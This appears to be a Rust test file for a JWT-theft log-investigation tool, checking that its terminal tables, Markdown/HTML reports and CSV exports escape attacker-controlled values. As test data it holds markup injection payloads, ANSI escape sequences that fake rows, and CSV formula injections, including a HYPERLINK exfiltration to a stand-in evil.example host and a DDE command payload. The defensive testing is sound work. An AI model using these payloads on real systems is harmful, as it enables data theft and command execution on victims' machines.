//! What people read: report.md once put user agents, paths and forged
//! claims in verbatim (`<img onerror>`, `![](http://...)` beacons,
//! `javascript:` links; the `|` of every `iss|jti` broke its tables);
//! `--format table` and stderr printed ESC and CR from a forged kid, jti,
//! sub or user agent raw (clear screen, fake rows).

use crate::{common, kong, none_token, replay_lines};

const UA: &str = "<img src=x onerror=alert(1)> ![b](http://beacon.example/p.png) [x](javascript:alert(1)) | a";

#[test]
fn the_table_and_stderr_escape_control_characters() {
    let tok = none_token("{\"iss\":\"https://idp.acme.example\",\"jti\":\"j\\u001b[2J\",\"sub\":\"s\\r\\u001b[31mFAKE ROW\",\"kid\":\"k\\u001b]0;t\\u0007\"}");
    let ua = "curl\u{1b}[2J\u{1b}[H\r\nfake line";
    let line = kong(1_793_600_000_000, "198.18.1.23", &format!("Bearer {tok}"), 200, "").replace(
        "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0",
        &ua.replace('\u{1b}', "\\u001b").replace('\r', "\\r").replace('\n', "\\n"),
    );
    let bad = "{\"started_at\":\"\u{1b}[2J yesterday\",\"client_ip\":\"198.18.1.5\",\"request\":{\"method\":\"GET\",\"uri\":\"/\"}}".to_string();
    let r = replay_lines(&[line, bad], &["--profile", "kong", "--format", "table", "--skip-errors", "--log", "debug"]);
    assert_eq!(r.code, Some(0), "{}", r.stderr);
    assert!(r.stdout.contains("forged-token"), "{}", r.stdout);
    for (name, text) in [("table", &r.stdout), ("stderr", &r.stderr)] {
        assert!(!text.contains('\u{1b}'), "{name} holds a raw ESC: {text:?}");
        assert!(!text.contains('\r'), "{name} holds a raw CR: {text:?}");
    }
    assert!(r.stdout.contains("\\x1b[31mFAKE ROW") || r.stdout.contains("\\x1b"), "{}", r.stdout);
    // one line per finding: the fake newline stayed inside its row
    assert_eq!(r.stdout.lines().count(), 2, "{}", r.stdout);
}

#[test]
fn report_md_values_cannot_become_markup() {
    let dir = common::tempdir();
    let log = dir.path().join("m.ndjson");
    // a theft whose user agent and path are attacker-chosen markup, with a `|` in the token id
    let claims = r#","jwt":{"iss":"https://idp|acme","jti":"md|1","sub":"a|b","exp":1893456000}"#;
    let mk = |t: u64, ip: &str| {
        kong(t, ip, "REDACTED", 200, claims).replace("Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0", UA)
    };
    std::fs::write(&log, [mk(1_793_600_000_000, "198.18.1.23"), mk(1_793_600_900_000, "198.18.126.77")].join("\n"))
        .unwrap();
    let rep = dir.path().join("r");
    let mut a: Vec<String> = vec!["investigate".into(), "--out".into(), rep.display().to_string()];
    a.extend(common::sample_flags().into_iter().filter(|f| !f.contains("revocations")));
    a.push(log.display().to_string());
    let o = common::bin().args(&a).output().unwrap();
    assert!(o.status.success(), "{}", common::text(&o.stderr));
    let md = std::fs::read_to_string(rep.join("report.md")).unwrap();
    assert!(md.contains("impossible-travel"), "{md}");
    let mut header_cells: Option<usize> = None;
    for line in md.lines() {
        // outside code spans nothing may open a tag, an image or a link
        let outside: String = line.split('`').step_by(2).collect();
        // a backslash-escaped character is text
        let mut plain = String::new();
        let mut it = outside.chars();
        while let Some(c) = it.next() {
            if c == '\\' {
                it.next();
            } else {
                plain.push(c);
            }
        }
        let outside = plain;
        for bad in ["<img", "![", "](", "<script"] {
            assert!(!outside.contains(bad), "markup outside a code span: {line}");
        }
        // every row of a table has its header's number of cells
        if line.starts_with('|') {
            let cells = line.replace("\\|", "").matches('|').count();
            let want = *header_cells.get_or_insert(cells);
            assert_eq!(cells, want, "a `|` broke a table row: {line}");
        } else {
            header_cells = None;
        }
    }
    let html = std::fs::read_to_string(rep.join("report.html")).unwrap();
    assert!(!html.contains("<img") && html.contains("&lt;img"), "escaped in HTML");
}

/// `export --csv` is opened in spreadsheets: a user agent, path or request
/// id that starts like a formula (`=`, `+`, `-`, `@`) stays text there.
#[test]
fn csv_cells_cannot_be_formulas() {
    let dir = common::tempdir();
    let log = dir.path().join("f.ndjson");
    let claims = r#","jwt":{"iss":"https://idp.acme.example","jti":"csv-1","sub":"alice","exp":1893456000}"#;
    let evil = [r#"=HYPERLINK(\"http://evil.example/?\"&A1)"#, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"];
    let lines: Vec<String> = evil
        .iter()
        .enumerate()
        .map(|(i, ua)| {
            kong(1_793_600_000_000 + i as u64 * 1000, "198.18.1.23", "REDACTED", 200, claims)
                .replace("Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0", ua)
        })
        .collect();
    std::fs::write(&log, lines.join("\n")).unwrap();
    let (pq, csv) = (dir.path().join("e.parquet"), dir.path().join("e.csv"));
    let o = common::bin()
        .args(["export", "--profile", "kong", "--parquet", pq.to_str().unwrap(), "--csv", csv.to_str().unwrap()])
        .arg(&log)
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", common::text(&o.stderr));
    let text = std::fs::read_to_string(&csv).unwrap();
    let mut seen = 0;
    for line in text.lines().skip(1) {
        for cell in line.split(',') {
            let c = cell.trim_start_matches('"');
            assert!(!matches!(c.as_bytes().first(), Some(b'=' | b'+' | b'@')), "formula cell {cell:?} in {line}");
            if c.starts_with("'=") || c.starts_with("'+") || c.starts_with("'-2") || c.starts_with("'@") {
                seen += 1;
            }
        }
    }
    assert_eq!(seen, 4, "every hostile user agent kept, as text: {text}");
}
